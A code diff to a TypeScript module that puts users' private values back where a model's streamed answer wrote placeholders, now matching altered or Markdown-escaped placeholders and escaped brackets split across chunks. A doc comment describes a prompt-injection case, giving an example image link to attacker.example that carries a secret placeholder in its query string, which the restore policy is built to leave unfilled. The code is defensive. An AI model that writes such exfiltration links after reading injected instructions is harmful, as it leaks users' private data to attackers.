@@ -1,5 +1,6 @@
 import type { TextTransform } from '../core/bridge/answer-hooks';
-import { MAX_PLACEHOLDER_LENGTH, PLACEHOLDER, type PiiVault } from './vault';
+import { canonicalPlaceholder, PLACEHOLDER_VARIANT, PLACEHOLDER_VARIANT_IN_JSON } from './placeholder-variants';
+import { MAX_PLACEHOLDER_LENGTH, type PiiVault } from './vault';
 
 /** How much of the answer before a placeholder is kept to tell whether the placeholder sits in a link. */
 const CONTEXT_CHARS = 2048;
@@ -26,7 +27,8 @@ export interface RestorePolicy {
 /**
  * Puts the original values back where the model wrote a placeholder, chunk by
  * chunk: text that could be the start of a placeholder split across two stream
- * chunks (`[EMA` + `IL_1]`) is held back until the next chunk decides it.
+ * chunks (`[EMA` + `IL_1]`, `\\[EMAIL\\_` + `1\\]`) is held back until the next chunk decides it. A placeholder the
+ * model altered (other case, a blank, Markdown's escapes) is restored as the one it stands for.
  *
  * A model that read a prompt injection can write a placeholder where it carries the value away
  * (`![](https://attacker.example/p.png?k=[SECRET_1])`, a tool call's URL): what the policy does not restore stays a
@@ -39,9 +41,11 @@ export function restoreTransform(vault: PiiVault, policy: RestorePolicy, options
   // Inside tool-call arguments the value lands in a JSON string, so it is escaped as one.
   const render = (value: string) => (options.insideJson ? JSON.stringify(value).slice(1, -1) : value);
   const restore = (text: string) => {
-    const out = text.replace(PLACEHOLDER, (match, _label: string, _n: string, offset: number) => {
-      const value = vault.byPlaceholder.get(match);
-      const category = vault.categoryOf.get(match);
+    const out = text.replace(options.insideJson ? PLACEHOLDER_VARIANT_IN_JSON : PLACEHOLDER_VARIANT, (match, label: string, n: string, offset: number) => {
+      // A placeholder the model altered ("[email_1]", "\\[EMAIL\\_1\\]") is the vault's own when the vault issued it.
+      const placeholder = canonicalPlaceholder(label, n);
+      const value = vault.byPlaceholder.get(placeholder);
+      const category = vault.categoryOf.get(placeholder);
       if (value === undefined || category === undefined || !policy.restores(category)) return match;
       const preceding = (before + text.slice(0, offset)).slice(-CONTEXT_CHARS);
       if (!policy.inLinks && IN_LINK.test(options.insideJson ? unescapedJson(preceding) : preceding)) return match;
@@ -55,7 +59,10 @@ export function restoreTransform(vault: PiiVault, policy: RestorePolicy, options
     push(text) {
       const combined = pending + text;
       const open = combined.lastIndexOf('[');
-      const holdFrom = open >= 0 && combined.indexOf(']', open) < 0 && combined.length - open < MAX_PLACEHOLDER_LENGTH ? open : combined.length;
+      let holdFrom = combined.length;
+      // A placeholder's start, with the backslash that may escape its bracket, or that backslash alone at the end.
+      if (open >= 0 && combined.indexOf(']', open) < 0 && combined.length - open < MAX_PLACEHOLDER_LENGTH) holdFrom = combined[open - 1] === '\\' ? open - 1 : open;
+      else if (combined.endsWith('\\')) holdFrom = combined.length - 1;
       pending = combined.slice(holdFrom);
       return restore(combined.slice(0, holdFrom));
     },
